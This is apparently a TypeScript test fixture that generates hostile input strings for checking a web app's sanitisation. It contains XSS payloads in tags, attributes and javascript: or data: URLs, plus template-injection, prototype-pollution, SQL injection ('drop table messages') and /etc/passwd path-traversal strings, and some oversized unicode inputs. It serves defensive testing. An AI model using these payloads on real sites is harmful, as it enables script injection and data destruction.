import { todays } from '../server/src/testing/length';

/** Texts that a stranger may send in the hope that some page takes them for more than words. Each would raise a flag. */

const flag = 'window.caught=1';
const away = 'http://outside.test';

const tags = [
  `<script>${flag}</script>`,
  `<script src=${away}/x.js></script>`,
  `<img src=x onerror=${flag}>`,
  `<img src=${away}/pixel.png>`,
  `<svg onload=${flag}>`,
  `<svg><script>${flag}</script></svg>`,
  `<svg><a href="javascript:${flag}"><text y=20>oi</text></a></svg>`,
  `<iframe src="javascript:${flag}"></iframe>`,
  `<iframe srcdoc="<script>parent.${flag}</script>"></iframe>`,
  `<object data=${away}/o.swf></object>`,
  `<embed src="javascript:${flag}">`,
  `<video src=${away}/v.mp4 onerror=${flag}></video>`,
  `<audio src=x onerror=${flag} autoplay></audio>`,
  `<body onload=${flag}>`,
  `<details open ontoggle=${flag}>oi</details>`,
  `<input autofocus onfocus=${flag}>`,
  `<style>@import url(${away}/x.css);*{display:none}</style>`,
  `<link rel=stylesheet href=${away}/x.css>`,
  `<base href=${away}/>`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<form action=${away}><button autofocus>oi</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${flag}>`,
  `<noscript><p title="</noscript><img src=x onerror=${flag}>">`,
  `<marquee onstart=${flag}>oi</marquee>`,
  `<div style="position:fixed;inset:0;background:url(${away}/b.png)">oi</div>`,
  `<template><script>${flag}</script></template>`,
];
const around: ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `</textarea></title></script>${text}<!--`,
  (text) => `*${text}* _${text}_`,
  (text) => `\`\`\`${text}\`\`\``,
];
const addresses = [
  `javascript:${flag}`,
  `JaVaScRiPt:${flag}`,
  `java\tscript:${flag}`,
  `\u0001javascript:${flag}`,
  `javascript://x%0a${flag}`,
  `data:text/html,<script>opener.${flag}</script>`,
  `data:image/svg+xml,<svg onload=${flag}>`,
  `vbscript:${flag}`,
  `file:///etc/passwd`,
  `//outside.test/x`,
  `${away}/"onmouseover="${flag}`,
  `${away}/'onmouseover='${flag}`,
  `${away}/<script>${flag}</script>`,
  `http://javascript:${flag}@outside.test`,
  `http://`,
  `https://\u202Emoc.knab\u202C`,
  `http://[::1]:0/`,
];
const dressed: ((text: string) => string)[] = [
  (text) => text,
  (text) => `[clique](${text})`,
  (text) => `<a href="${text}">clique</a>`,
  (text) => `*${text}*`,
];
const others = [
  `{{constructor.constructor('${flag}')()}}`,
  `\${${flag}}`,
  `#{${flag}}`,
  `<%= ${flag} %>`,
  `__proto__`,
  `constructor`,
  `&lt;script&gt;${flag}&lt;/script&gt;`,
  `&#60;img src=x onerror=${flag}&#62;`,
  `+ADw-script+AD4-${flag}+ADw-/script+AD4-`,
  `\\u003cscript\\u003e${flag}\\u003c/script\\u003e`,
  `%3Cscript%3E${flag}%3C/script%3E`,
  `\u202E<tpircs>${flag}`,
  `'; drop table messages; --`,
  `../../../../etc/passwd`,
  `****____~~~~\`\`\`\`\`\``,
  `<<<<>>>>"'\`;--`,
];

const marks = '\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0323\u0324\u0325';

const all: string[] = [
  ...tags.flatMap((tag) => around.map((put) => put(tag))),
  ...addresses.flatMap((address) => dressed.map((put) => put(address))),
  ...others,
];
if (all.length < 200) throw new Error('Too few of them to show anything.');

/** Those of today: two hundred and more take long to be looked at wherever they are drawn. */
export const hostile = todays(all);

/** Texts that try to burst the page. */
export const huge: string[] = [
  'A'.repeat(10_000),
  'مرحبا '.repeat(1700),
  `a${marks.repeat(800)}`,
  '\u200B\u200D\uFEFF'.repeat(3333),
  '\u202E\u2067אבג '.repeat(1700),
  `https://outside.test/${'x'.repeat(9900)}`,
  '👩‍👩‍👧‍👦'.repeat(900),
  '\n'.repeat(9000) + 'fim',
  '*_~'.repeat(3300),
  '﷽'.repeat(2000),
];

/** The same as names, which are shorter. */
export const hugeNames: string[] = huge.map(
  (text) => [...text.replace(/\s+/g, ' ').trim()].slice(0, 30).join('') + '.',
);
